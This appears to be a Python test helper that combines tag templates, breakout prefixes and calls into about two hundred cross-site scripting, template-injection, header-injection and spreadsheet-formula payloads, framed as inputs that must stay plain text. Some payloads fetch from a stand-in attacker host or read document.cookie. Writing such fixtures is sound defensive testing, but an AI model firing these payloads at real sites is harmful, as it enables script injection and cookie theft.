"""Two hundred texts that customers, shops and colleagues may send, and that must never be anything but text."""

from __future__ import annotations

from itertools import product

TAGS = (
    "<script>{0}</script>", "<img src=x onerror={0}>", "<svg onload={0}>", "<svg/onload={0}>", "<body onload={0}>",
    "<iframe src=javascript:{0}>", "<a href=javascript:{0}>x</a>", "<details open ontoggle={0}>",
    "<style>@import'{0}'</style>",
    "<input autofocus onfocus={0}>", "<video><source onerror={0}></video>", "<math><mi xlink:href=javascript:{0}>",
    "<form action=javascript:{0}><button>", "<object data=javascript:{0}>", "<embed src=javascript:{0}>",
    "<base href={0}>", "<meta http-equiv=refresh content='0;url=javascript:{0}'>", "<link rel=stylesheet href={0}>",
    "<template><script>{0}</script></template>", "<noscript><p title='</noscript><img src=x onerror={0}>'>",
    "<marquee onstart={0}>", "<x contenteditable onblur={0}>y", "<!--><script>{0}</script>-->",
    "<![CDATA[<script>{0}</script>",
    "<scr<script>ipt>{0}</scr</script>ipt>", "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<p style=background:url(//{0})>",
)  # fmt: skip
OUTBREAKS = (
    '"{0}', "'{0}", '">{0}', "'>{0}", "</title>{0}", "</textarea>{0}", "</script>{0}", "-->{0}", "]]>{0}", "</svg>{0}",
    '" autofocus onfocus="alert(1)', "' onmouseover='alert(1)", "`{0}`", "\\\"-alert(1)//", "${{7*7}}", "{{{{7*7}}}}",
    "{{%x%}}", "#{{7*7}}", "<%= 7*7 %>", "\u2028{0}", "\u202e{0}", "&lt;script&gt;{0}", "&#60;script&#62;{0}",
    "%3Cscript%3E{0}",
    "javascript:{0}", "data:text/html,{0}", "=HYPERLINK(\"//evil\")", "\r\nSet-Cookie: a=b", "\x1b[31m{0}",
    "//evil.example/",
)  # fmt: skip
CALLS = ("alert(1)", "fetch('//evil.example')", "document.cookie")


def payloads(count: int = 200) -> list[str]:
    """As many different ones."""
    made = [frame.format(call) for frame, call in product((*TAGS, *OUTBREAKS), CALLS)]
    nested = [outer.format(inner) for outer, inner in product(OUTBREAKS[:10], (t.format("alert(1)") for t in TAGS[:8]))]
    return list(dict.fromkeys([*made, *nested]))[:count]
